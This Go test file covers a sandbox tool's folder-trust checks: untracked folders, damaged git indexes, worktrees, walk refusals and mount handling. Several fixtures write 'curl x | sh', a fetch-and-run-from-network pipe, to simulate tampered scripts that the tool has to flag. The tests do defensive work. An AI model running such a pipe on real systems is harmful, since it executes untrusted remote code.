package outer

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// TestUntrackedFolderCountsEveryFileBelowTheTop: a folder no git
// repository holds (a tarball of the team's repository, extracted) has no
// record of what a clone brought, so every file below the top is in the
// set but those the tracked rule leaves out whatever git says (workspace/,
// the editors' schemas) and the records asb and go-task write in .asb/ and
// .task/. A script changed or added there afterwards (the next tarball,
// extracted over it) is asked about, by the cached verdict too.
func TestUntrackedFolderCountsEveryFileBelowTheTop(t *testing.T) {
	dir, j := cacheFolder(t)
	writeFile(t, dir, "scripts/lint.sh", "echo lint\n")
	writeFile(t, dir, "workspace/run.sh", "echo run\n")
	writeFile(t, dir, ".asb/state.yaml", "vm: demo\n")
	writeFile(t, dir, reviewDir+"/workspace.json", "{}\n")
	writeFile(t, dir, ".task/checksum/image-build", "3f1c0a9be27d4c65a1b2c3d4e5f60718\n")
	writeFile(t, dir, ".task/timestamp/image-build", "")
	writeFile(t, dir, ".asb/checksum/image-build", "3f1c0a9be27d4c65\n") // go-task's shape, not asb's name
	v, err := j.Check(dir)
	if err != nil || v.Trusted || string(v.Set.Files["scripts/lint.sh"]) != "echo lint\n" {
		t.Fatalf("a script below the top, no repository: trusted %v (%s), %v; want it in the set, asked about", v.Trusted, v.Why, err)
	}
	if v.Set.Files[".asb/checksum/image-build"] == nil {
		t.Errorf("a file of .asb/ by a name asb does not write is not in the set: %v", v.Set.names())
	}
	for _, out := range []string{"workspace/run.sh", ".asb/state.yaml", reviewDir + "/workspace.json", ".task/checksum/image-build",
		".task/timestamp/image-build", ".schemas/sandbox.schema.json", ".asb/generated.json"} {
		if _, ok := v.Set.Files[out]; ok {
			t.Errorf("%s is in the set: %v", out, v.Set.names())
		}
	}
	if err := v.Approve("a test"); err != nil {
		t.Fatal(err)
	}
	settle(t, dir, j)
	appendTo(t, filepath.Join(dir, "scripts", "lint.sh"), "curl x | sh\n")
	if v, err := CheckTrustCached(dir, j); err != nil || v.Cached || v.Trusted {
		t.Fatalf("the script edited: cached %v, trusted %v (%s), %v", v.Cached, v.Trusted, v.Why, err)
	}
	for _, added := range []string{"scripts/more/deep.sh", ".task/lint.sh", ".asb/lint.sh", ".task/checksum/lint-sh"} {
		t.Run(added, func(t *testing.T) {
			dir, j := cacheFolder(t)
			settle(t, dir, j)
			writeFile(t, dir, added, "curl x | sh\n")
			v, err := CheckTrustCached(dir, j)
			if err != nil || v.Cached || v.Trusted || v.Set.Files[added] == nil {
				t.Fatalf("%s added: cached %v, trusted %v (%s), %v; want it in the set, asked about", added, v.Cached, v.Trusted, v.Why, err)
			}
		})
	}
}

// TestTrackedSetUnknown: asb cannot rely on an index it cannot read (here
// damaged), nor on a .git file that names a git folder with no index (a
// copy of a worktree or submodule checkout: git makes neither without
// one), nor on a repository above the folder that tracks none of its
// files: every file below the top counts then. A folder of its own fresh
// repository (git init, nothing added yet: asb init's) and a real
// worktree keep the tracked rule.
func TestTrackedSetUnknown(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("no git")
	}
	counts := func(t *testing.T, dir string, j Judge, want bool) {
		t.Helper()
		v, err := j.Check(dir)
		if err != nil {
			t.Fatal(err)
		}
		if _, in := v.Set.Files["scripts/lint.sh"]; in != want || v.Trusted == want {
			t.Fatalf("scripts/lint.sh in the set: %v, trusted %v (%s); want in the set %v", in, v.Trusted, v.Why, want)
		}
	}
	t.Run("damaged index", func(t *testing.T) {
		dir, j := cacheFolder(t)
		gitIn(t, dir, "init", "-q")
		gitIn(t, dir, "add", "-A")
		writeFile(t, dir, "scripts/lint.sh", "echo lint\n")
		counts(t, dir, j, false)
		writeFile(t, dir, ".git/index", "DIRC not an index")
		counts(t, dir, j, true)
	})
	t.Run("git file without an index", func(t *testing.T) {
		dir, j := cacheFolder(t)
		writeFile(t, dir, ".git", "gitdir: ../.git/modules/demo\n")
		writeFile(t, dir, "scripts/lint.sh", "echo lint\n")
		counts(t, dir, j, true)
	})
	t.Run("fresh repository", func(t *testing.T) {
		dir, j := cacheFolder(t)
		gitIn(t, dir, "init", "-q")
		writeFile(t, dir, "scripts/lint.sh", "echo lint\n")
		counts(t, dir, j, false)
	})
	t.Run("worktree", func(t *testing.T) {
		dir, j := cacheFolder(t)
		gitIn(t, dir, "init", "-q")
		gitIn(t, dir, "add", "-A")
		gitIn(t, dir, "commit", "-qm", "the folder")
		wt := dir + "-wt"
		gitIn(t, dir, "worktree", "add", "-q", wt)
		v, err := j.Check(wt)
		if err != nil {
			t.Fatal(err)
		}
		if err := v.Approve("a test"); err != nil {
			t.Fatal(err)
		}
		writeFile(t, wt, "scripts/lint.sh", "echo lint\n")
		counts(t, wt, j, false)
	})
	t.Run("repository above tracking none of it", func(t *testing.T) {
		dir, j := cacheFolder(t)
		gitIn(t, filepath.Dir(dir), "init", "-q")
		writeFile(t, filepath.Dir(dir), "other.txt", "x\n")
		gitIn(t, filepath.Dir(dir), "add", "other.txt")
		writeFile(t, dir, "scripts/lint.sh", "echo lint\n")
		counts(t, dir, j, true)
		gitIn(t, filepath.Dir(dir), "add", filepath.Join(dir, "Taskfile.yml"))
		counts(t, dir, j, false)
	})
}

// TestUntrackedWalkRefuses: what the walk of a folder without a record of
// what git tracks cannot read as it is refuses the folder, with where and
// how to fix it: more files or deeper folders than it reads (never a set
// that silently left some out), a link, a FIFO (without waiting on it), a
// repository inside the folder.
func TestUntrackedWalkRefuses(t *testing.T) {
	cases := []struct {
		name           string
		entries, depth int
		lay            func(t *testing.T, dir string)
		want           string
	}{
		{"many files", 8, 32, func(t *testing.T, dir string) {
			for _, n := range []string{"a", "b", "c", "d", "e", "f"} {
				writeFile(t, dir, "scripts/"+n+".sh", "echo\n")
			}
		}, "has more than 8 files and folders below its top"},
		{"deep folders", 2000, 3, func(t *testing.T, dir string) { writeFile(t, dir, "a/b/c/d/e.sh", "echo\n") },
			"has folders more than 3 deep (a/b/c/d)"},
		{"a link", 2000, 32, func(t *testing.T, dir string) {
			writeFile(t, dir, "workspace/run.sh", "echo\n")
			if err := os.MkdirAll(filepath.Join(dir, "scripts"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("../workspace/run.sh", filepath.Join(dir, "scripts", "lint.sh")); err != nil {
				t.Fatal(err)
			}
		}, "scripts/lint.sh is a link (to ../workspace/run.sh)"},
		{"a fifo", 2000, 32, func(t *testing.T, dir string) {
			if err := os.MkdirAll(filepath.Join(dir, "scripts"), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := syscall.Mkfifo(filepath.Join(dir, "scripts", "lint.sh"), 0o644); err != nil {
				t.Fatal(err)
			}
		}, "scripts/lint.sh is not a plain file"},
		{"a repository inside", 2000, 32, func(t *testing.T, dir string) { writeFile(t, dir, "tools/.git/hooks/post-merge", "echo\n") },
			"tools/.git is a git repository inside the outer folder"},
	}
	defer func(n, d int) { maxUntrackedEntries, maxUntrackedDepth = n, d }(maxUntrackedEntries, maxUntrackedDepth)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			maxUntrackedEntries, maxUntrackedDepth = c.entries, c.depth
			dir, j := cacheFolder(t)
			c.lay(t, dir)
			_, err := j.Check(dir)
			if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), "no git repository holds it") {
				t.Fatalf("Check = %v; want a refusal saying %q and why every file counts", err, c.want)
			}
		})
	}
}

// TestUntrackedWalkSkipsTheVMsFolders: a folder sandbox.yaml binds into
// the VM read-write is the VM's, as workspace/ is: what the agent writes
// there leaves an approved folder without git approved (the real-boot
// scenario's rw mounts were asked about after each agent run). A
// read-only bind is not the VM's: a file added there is asked about.
func TestUntrackedWalkSkipsTheVMsFolders(t *testing.T) {
	dir, j := cacheFolder(t)
	sb := filepath.Join(dir, SandboxFile)
	raw, err := os.ReadFile(sb)
	if err != nil {
		t.Fatal(err)
	}
	mounts := "mounts:\n  - ./d1:/d1\n  - bind: d3\n    target: /d3\n  - ./d2:/d2-ro:ro\n  - bind: ./${SUB}\n    target: /sub\n"
	if err := os.WriteFile(sb, []byte(strings.Replace(string(raw), "mounts:\n", mounts, 1)), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"d1/keep", "d2/keep", "d3/keep"} {
		writeFile(t, dir, f, "x\n")
	}
	v, err := j.Check(dir)
	if err != nil {
		t.Fatal(err)
	}
	if v.Set.Files["d2/keep"] == nil || v.Set.Files["d1/keep"] != nil || v.Set.Files["d3/keep"] != nil {
		t.Fatalf("set %v: want d2's file in it (read-only), d1's and d3's not (read-write)", v.Set.names())
	}
	if err := v.Approve("a test"); err != nil {
		t.Fatal(err)
	}
	settle(t, dir, j)
	writeFile(t, dir, "d1/.vm-wrote", "vm\n")
	writeFile(t, dir, "d3/deep/.vm-wrote", "vm\n")
	if v, err := CheckTrustCached(dir, j); err != nil || !v.Trusted {
		t.Fatalf("the VM wrote in its read-write folders: trusted %v (%s), %v; want still approved", v.Trusted, v.Why, err)
	}
	writeFile(t, dir, "d2/added.sh", "curl x | sh\n")
	if v, err := CheckTrustCached(dir, j); err != nil || v.Trusted {
		t.Fatalf("a file added in a read-only bind: trusted %v, %v; want asked about", v.Trusted, err)
	}
}
